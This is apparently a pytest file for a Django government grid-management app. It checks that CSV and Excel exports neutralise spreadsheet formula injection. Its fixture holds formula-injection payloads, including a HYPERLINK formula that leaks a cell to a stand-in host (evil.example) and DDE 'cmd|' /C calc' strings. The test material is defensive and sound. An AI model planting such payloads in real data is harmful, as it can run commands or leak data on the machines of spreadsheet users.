"""CSV (formula) injection: a value that a spreadsheet would run as a formula is written to a
CSV export with a quote in front (the OWASP rule), stays exact in XLSX (a text cell, never a
formula), and a re-import of the CSV gives back exactly what was stored.

The attack over real HTTP: a street dispatcher records an organisation whose fields are
formulas through the API; the district operator downloads the organisations list as CSV and
as Excel from the web page."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client

from wangge.cases.tests.conftest import Api
from wangge.core import exporting
from wangge.core.identifiers import uscc_check_character

pytestmark = pytest.mark.django_db(transaction=True, serialized_rollback=True)

XIMEI_GRID = "350583001001001"
EVIL = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "address": "+1+cmd|' /C calc'!A0",
    "industry": "-2+3",
    "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "=cmd|' /C calc'!A0",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _uscc(first17: str) -> str:
    return first17 + uscc_check_character(first17)


def _browser(live_server, user):
    """A requests session logged in as ``user`` (the session cookie of a real login)."""
    import requests
    from django.conf import settings

    client = Client()
    client.force_login(user)
    session = requests.Session()
    session.cookies.set(settings.SESSION_COOKIE_NAME,
                        client.cookies[settings.SESSION_COOKIE_NAME].value)
    return session


def test_formulas_in_a_csv_export_are_neutralised_and_xlsx_stays_exact(live_server, users,
                                                                         tmp_path):
    from openpyxl import load_workbook

    from wangge.organisations.models import Organisation

    created = Api(live_server.url, users["ximei"]).post(
        "/organisations", {"kind": "enterprise", "credit_code": _uscc("91350583MA2Y1K3P0"),
                           "grid_code": XIMEI_GRID, "contact_phone": "13812345678", **EVIL},
        expect=201)
    stored = Organisation.objects.get(pk=created["id"])
    assert stored.name == EVIL["name"]  # stored as given: only the file is written safely

    browser = _browser(live_server, users["district"])
    response = browser.get(f"{live_server.url}/organisations/export/", params={"format": "csv"},
                           timeout=30)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = dict(zip(table[0], table[1], strict=True))
    for column, value in EVIL.items():
        assert row[column] == "'" + value, column  # shown as text by a spreadsheet
    for line in table:
        for cell in line:
            assert not cell.startswith(DANGEROUS), cell  # nothing in the file is a formula
    # the contact names and phones it holds: the export is in the audit trail
    from wangge.audit.models import AuditEvent

    event = AuditEvent.objects.get(event="export")
    assert (event.actor_username, event.client_ip, event.detail["kind"], event.detail["rows"],
            event.detail["channel"], event.detail["format"]) == (
        "district", "127.0.0.1", "organisations", 1, "web", "csv")

    # the CSV imports back to exactly what is stored (the quote taken off again)
    path = tmp_path / "organisations.csv"
    path.write_bytes(response.content)
    out = io.StringIO()
    call_command("import", "organisations", str(path), stdout=out, stderr=io.StringIO())
    assert "0 new, 0 updated, 1 unchanged" in out.getvalue(), out.getvalue()
    again = Organisation.objects.get(pk=stored.pk)
    assert (again.name, again.address, again.note) == (EVIL["name"], EVIL["address"],
                                                       EVIL["note"])

    # Excel: the exact values, as text cells, never formulas
    response = browser.get(f"{live_server.url}/organisations/export/",
                           params={"format": "xlsx"}, timeout=30)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column, value in EVIL.items():
        assert cells[column].value == value and cells[column].data_type == "s", column


@pytest.mark.parametrize("value", [
    "=1+1", "+86 139", "-12.5", "@SUM(A1)", "\tx", "\rx", "'=1", "''=1", "'", "''", "-",
    "'plain", "plain", "a=b", "", "'+", "中文=1"])
def test_neutralise_and_unneutralise_give_back_every_value(value):
    written = exporting.neutralise(value)
    assert not written.startswith(DANGEROUS)
    assert exporting.unneutralise(written) == value


def test_the_taxonomy_export_and_the_import_error_report_are_neutralised():
    from wangge.cases import taxonomy
    from wangge.cases.models import Category
    from wangge.core.tabular import RowProblem, error_report

    Category.objects.filter(parent__isnull=False).update(filing_condition="=1+2")
    text = taxonomy.export_bytes("csv").decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'=1+2" in cells and not any(c.startswith(DANGEROUS) for c in cells)
    rows = taxonomy.read_rows(text.encode(), "taxonomy.csv")
    assert {r["filing_condition"] for r in rows if r} == {"=1+2"}
    book = taxonomy.export_bytes("xlsx")
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(book)).worksheets[0]
    found = [c for row in sheet.iter_rows() for c in row if c.value == "=1+2"]
    assert found and all(c.data_type == "s" for c in found)
    report = error_report([RowProblem(2, "name", "=HYPERLINK(\"x\")")])
    assert "'=HYPERLINK" in report
